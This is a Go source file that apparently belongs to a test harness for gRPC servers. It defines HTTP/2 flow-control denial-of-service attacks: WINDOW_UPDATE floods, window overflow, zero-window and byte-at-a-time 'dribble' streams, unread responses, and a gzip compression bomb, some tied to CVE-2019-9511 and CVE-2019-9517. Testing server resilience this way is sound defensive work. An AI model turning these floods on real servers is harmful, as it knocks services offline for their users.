// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// windowKinds are attacks on a server with flow control (RFC 9113, 5.2), and by not reading.
var windowKinds = []Kind{
	{
		Name:   "server/window/update-flood",
		About:  "WINDOW_UPDATE of the connection",
		Attack: flood(4, true, windowFlood),
	},
	{
		Name:   "server/window/stream-update-flood",
		About:  "WINDOW_UPDATE of 1 for a stream that is open",
		Attack: onStreams(4, 1, orders.Deaf, frame(wire.WindowUpdate, 0, 1, wire.Uint32(1))),
	},
	{
		Name:   "server/window/closed-update-flood",
		About:  "WINDOW_UPDATE for a stream that is over",
		Attack: onStreams(4, 1, "/no.Such/Method", frame(wire.WindowUpdate, 0, 1, wire.Uint32(1))),
	},
	{
		Name:   "server/window/overflow",
		About:  "a window of the connection above 2^31-1: a connection error each",
		Attack: flood(16, true, overflow),
	},
	{
		Name: "server/window/zero", Own: 1000 * poured, Short: true,
		About:  "1,000 streams that want answers without end, in windows of 0 (CVE-2019-9511)",
		Attack: pouring(1, 1000, 0, true, nil),
	},
	{
		Name: "server/window/dribble", Own: 100 * poured,
		About:  "100 streams that want answers without end, a byte at a time (CVE-2019-9511, CVE-2019-9517)",
		Attack: pouring(1, 100, 0, true, dribble(100)),
	},
	{
		Name: "server/window/unread", Own: 1000 * poured,
		About:  "20 connections of 50 streams that want answers without end, windows of 2^31-1, nobody reads (CVE-2019-9517)",
		Attack: pouring(20, 50, 1<<31-1, false, nil),
	},
	{
		Name: "server/window/one-connection-unread", Own: 1000 * poured,
		About:  "1,000 streams on one connection, windows of 2^31-1, nobody reads (CVE-2019-9517)",
		Attack: pouring(1, 1000, 1<<31-1, false, nil),
	},
	{
		Name:   "server/window/unary-unread",
		About:  "900 echoes on each of 200 connections, windows of 2^31-1, nobody reads",
		Attack: hold(200, false, echoes(900)),
	},
	{
		Name: "server/window/large-unread", Own: 60 * 2 * mib, // the message, and what it is encoded to
		About:  "60 calls on one connection that are answered with 1 MiB each, windows of 2^31-1, nobody reads",
		Attack: hold(1, false, larges(60, 1<<31-1-window)),
	},
	{
		Name: "server/window/large-zero", Own: 60 * 2 * mib,
		About:  "6 calls on each of 10 connections that are answered with 1 MiB each, usual windows, none is widened",
		Attack: hold(10, true, larges(6, 0)),
	},
	{
		Name:   "server/window/gzip-unread",
		About:  "4 KB that gzip blows up to 4 MiB, echoed 10 times to each of 10 connections, nobody reads",
		Own:    2 * 100 * 4 * mib, // the messages, and those they are compressed from or to meanwhile
		Spate:  2 * 100 * 4 * mib,
		Attack: hold(10, false, gzipEchoes(10)),
	},
}

func windowFlood(c *attacker.Conn) error { return c.Window(0, 1) }

func overflow(c *attacker.Conn) error {
	if err := c.Window(0, 1<<31-1); err != nil {
		return err
	}
	return c.Flush()
}

// pouring opens streams on n connections that the server fills, in windows of a size.
func pouring(n, open_ int, size uint32, reads bool, then script) attack {
	return func(a *attacker.Attacker) error {
		return a.Conns(n, func(c *attacker.Conn) error {
			listen(c, reads)
			if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: size}); err != nil {
				return err
			}
			if size > window {
				if err := c.Window(0, size-window); err != nil {
					return err
				}
			}
			if _, err := open(c, open_, orders.Pour); err != nil {
				return err
			}
			if then == nil {
				c.Attacker().Sleep(a.Left() / 2)
				return nil
			}
			return repeat(c, then)
		})
	}
}

// dribble hands out a byte to each of n streams.
func dribble(n int) script {
	return func(c *attacker.Conn) error {
		for i := range n {
			if err := c.Window(uint32(2*i+1), 1); err != nil {
				return err
			}
		}
		if err := c.Window(0, uint32(n)); err != nil {
			return err
		}
		return c.Flush()
	}
}

// echoes wants n answers.
func echoes(n int) script {
	return func(c *attacker.Conn) error {
		if err := c.Window(0, 1<<31-1-window); err != nil {
			return err
		}
		for range n {
			id := c.Stream()
			if err := c.Headers(id, 0, wire.Request(orders.Echo)); err != nil {
				return err
			}
			if err := c.Data(id, wire.EndStream, wire.AppendMessage(nil, 0, append([]byte{0x0a, 60}, make([]byte, 60)...))); err != nil {
				return err
			}
		}
		return nil
	}
}

// larges wants n answers of 1 MiB, in a window that is wider by more.
func larges(n int, more uint32) script {
	return func(c *attacker.Conn) error {
		if more > 0 {
			if err := c.Settings(wire.Setting{ID: wire.InitialWindowSize, Value: 1<<31 - 1}); err != nil {
				return err
			}
			if err := c.Window(0, more); err != nil {
				return err
			}
		}
		for range n {
			if _, err := c.Call(orders.Large); err != nil {
				return err
			}
		}
		return nil
	}
}

// gzipEchoes wants n answers, each a thousand times as long as its question.
func gzipEchoes(n int) script {
	call := wire.Request(orders.Echo, wire.Field{Name: "grpc-encoding", Value: "gzip"})
	return func(c *attacker.Conn) error {
		if err := c.Window(0, 1<<31-1-window); err != nil {
			return err
		}
		for range n {
			id := c.Stream()
			if err := c.Headers(id, 0, call); err != nil {
				return err
			}
			if err := c.Data(id, wire.EndStream, wire.AppendMessage(nil, 1, bomb(4*mib-8))); err != nil {
				return err
			}
		}
		return nil
	}
}
